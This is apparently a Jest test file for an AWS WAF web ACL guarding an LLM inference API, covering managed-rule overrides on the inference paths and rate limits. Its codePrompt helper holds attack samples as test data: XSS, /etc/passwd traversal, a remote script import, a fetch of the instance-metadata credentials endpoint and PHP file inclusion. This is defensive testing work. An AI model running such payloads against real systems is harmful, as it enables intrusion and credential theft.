import { Testing } from 'cdktf';
import { conversePath, resourcePath } from '../../../contracts/http-api';
import { webAclLimits } from '../../../modules/api/platform-api';
import { CORE_RULE_SET_BODY_RULES, RegionalWebAcl, type RegionalWebAclProps } from '../../../modules/api/web-acl';
import { parseSynth, planFor, resourcesOf, synthEnvironment } from '../../stacks/synth-environment';
import { CORE_RULE_SET, evaluateWebAcl, type SynthesizedWebAcl, type WafRequest } from '../../support/waf';

const prodAcl = () => resourcesOf(synthEnvironment('prod'), 'aws_wafv2_web_acl')[0] as unknown as SynthesizedWebAcl;
const stage = '/live';
const key = { 'x-api-key': 'k-web-app' };

/** A prompt of code, about 20 KB: HTML with a script, file paths, URLs, the instance metadata address. */
function codePrompt(): string {
  const chunk = [
    '<html><body><script>document.getElementById("x").innerHTML = "<img src=x onerror=alert(1)>";</script></body></html>',
    "const config = fs.readFileSync('../../../../etc/passwd', 'utf8');",
    "import('http://203.0.113.7/lib.js'); fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');",
    '<?php include($_GET["page"] . ".php"); ?>',
  ].join('\n');
  let text = 'Review this code and explain each vulnerability:\n';
  while (text.length < 20 * 1024) text += `${chunk}\n`;
  return text;
}

/** The request body the converse route takes, as bytes: what WAF's body rules would inspect. */
function converseBody(prompt: string): string {
  return JSON.stringify({ messages: [{ role: 'user', content: [{ text: prompt }] }] });
}

/** The core rule set's body rules: the worst case for a prompt of code is that it matches every one. */
const EVERY_BODY_RULE = Object.keys(CORE_RULE_SET).filter((r) => r.endsWith('_BODY'));

describe('RegionalWebAcl', () => {
  it('lets a 20 KB prompt of code through on the inference paths, even if it trips every core rule set body rule', () => {
    const body = converseBody(codePrompt());
    expect(Buffer.byteLength(body)).toBeGreaterThan(20 * 1024);
    const acl = prodAcl();
    for (const path of [`${stage}${conversePath('code')}`, `${stage}${resourcePath('chatCompletions')}`]) {
      const request: WafRequest = { path, ip: '198.51.100.10', headers: key, matchesManagedRules: EVERY_BODY_RULE };
      const verdict = evaluateWebAcl(acl, request);
      expect({ path, action: verdict.action, rule: verdict.terminatingRule }).toEqual({
        path,
        action: 'ALLOW',
        rule: 'default',
      });
      // The rules still ran: each counted and labelled the request.
      expect([...verdict.counted].sort()).toEqual(EVERY_BODY_RULE.map((r) => `aws-common-rule-set/${r}`).sort());
      expect(verdict.labels).toHaveLength(EVERY_BODY_RULE.length);
    }
  });

  it('keeps the body rules blocking everywhere else, and the rest of the core rule set blocking on the inference paths', () => {
    const acl = prodAcl();
    const elsewhere = evaluateWebAcl(acl, {
      path: `${stage}${resourcePath('listRoutes')}`,
      ip: '198.51.100.10',
      headers: key,
      matchesManagedRules: ['CrossSiteScripting_BODY'],
    });
    expect(elsewhere).toMatchObject({ action: 'BLOCK', terminatingRule: 'common-body-rules-off-inference-paths' });
    // A path that only ends like an inference path's prefix is not one.
    expect(
      evaluateWebAcl(acl, {
        path: `${stage}/v1/routes/code/converse/extra`,
        ip: '198.51.100.10',
        matchesManagedRules: ['GenericLFI_BODY'],
      }).action,
    ).toBe('BLOCK');
    const header = evaluateWebAcl(acl, {
      path: `${stage}${conversePath('code')}`,
      ip: '198.51.100.10',
      headers: key,
      matchesManagedRules: ['NoUserAgent_HEADER'],
    });
    expect(header).toMatchObject({
      action: 'BLOCK',
      terminatingRule: 'aws-common-rule-set',
      terminatingManagedRule: 'NoUserAgent_HEADER',
    });
  });

  it('sizes the rate limits from the throttles: a consumer at its full rate behind a shared NAT address is never blocked, a flood is', () => {
    const plan = planFor('prod');
    const acl = prodAcl();
    const limits = webAclLimits(plan.api.throttle, plan.api.consumers);
    // 500 requests/s for the stage and a burst of 1000; the largest consumer 200/s with a burst of 400.
    expect(limits).toEqual({ perIpLimitPer5Minutes: 500 * 300 + 1000, perApiKeyLimitPer5Minutes: 200 * 300 + 400 });
    const path = `${stage}${conversePath('chat')}`;
    // Every consumer at its usage plan's rate for 5 minutes, all from one NAT address.
    const allConsumers = plan.api.consumers.reduce((n, c) => n + c.throttle.rateLimit * 300, 0);
    const biggest = Math.max(...plan.api.consumers.map((c) => c.throttle.rateLimit * 300));
    expect(
      evaluateWebAcl(acl, {
        path,
        ip: '198.51.100.10',
        headers: key,
        requestsInWindow: { perIp: allConsumers, perHeader: biggest },
      }).action,
    ).toBe('ALLOW');
    expect(
      evaluateWebAcl(acl, {
        path,
        ip: '198.51.100.10',
        headers: key,
        requestsInWindow: { perIp: 1, perHeader: (limits.perApiKeyLimitPer5Minutes ?? 0) + 1 },
      }),
    ).toMatchObject({ action: 'BLOCK', terminatingRule: 'rate-limit-per-api-key' });
    // A bearer-key caller (OpenAI clients) is counted per key as well, by its own rule.
    expect(
      evaluateWebAcl(acl, {
        path,
        ip: '198.51.100.10',
        headers: { authorization: 'Bearer k-web-app' },
        requestsInWindow: { perIp: 1, perHeader: (limits.perApiKeyLimitPer5Minutes ?? 0) + 1 },
      }),
    ).toMatchObject({ action: 'BLOCK', terminatingRule: 'rate-limit-per-bearer-key' });
    expect(
      evaluateWebAcl(acl, { path, ip: '198.51.100.10', requestsInWindow: { perIp: limits.perIpLimitPer5Minutes + 1 } }),
    ).toMatchObject({ action: 'BLOCK', terminatingRule: 'rate-limit-per-ip' });
    // Without a key the per-key rule does not count the request.
    expect(evaluateWebAcl(acl, { path, ip: '198.51.100.10', requestsInWindow: { perHeader: 1e9 } }).action).toBe(
      'ALLOW',
    );
  });

  it('overrides only rules the core rule set has, each to count, with the label that rule adds', () => {
    for (const [name, label] of Object.entries(CORE_RULE_SET_BODY_RULES)) {
      expect(CORE_RULE_SET[name]).toBeDefined();
      expect(label).toBe(`awswaf:managed:aws:core-rule-set:${CORE_RULE_SET[name]}`);
    }
    expect(Object.keys(CORE_RULE_SET_BODY_RULES).sort()).toEqual([...EVERY_BODY_RULE].sort());
  });

  it('has no per-key rule when there are no consumers, and one inference pattern stands alone', () => {
    const props: RegionalWebAclProps = {
      name: 'fm-test-api-live',
      perIpLimitPer5Minutes: 15_100,
      inferencePathPatterns: ['/v1/chat/completions/?$'],
      resourceArn: 'arn:aws:apigateway:us-east-1::/restapis/a/stages/live',
    };
    const json = parseSynth(Testing.synthScope((scope) => void new RegionalWebAcl(scope, 'WebAcl', props)));
    const acl = Object.values(json.resource.aws_wafv2_web_acl)[0] as unknown as SynthesizedWebAcl;
    expect(acl.rule.map((r) => r.name)).toEqual([
      'rate-limit-per-ip',
      'aws-common-rule-set',
      'common-body-rules-off-inference-paths',
    ]);
    const prompt = { ip: '198.51.100.10', matchesManagedRules: ['SizeRestrictions_BODY'] };
    expect(evaluateWebAcl(acl, { ...prompt, path: '/live/v1/chat/completions' }).action).toBe('ALLOW');
    expect(evaluateWebAcl(acl, { ...prompt, path: '/live/v1/routes' }).action).toBe('BLOCK');
  });
});
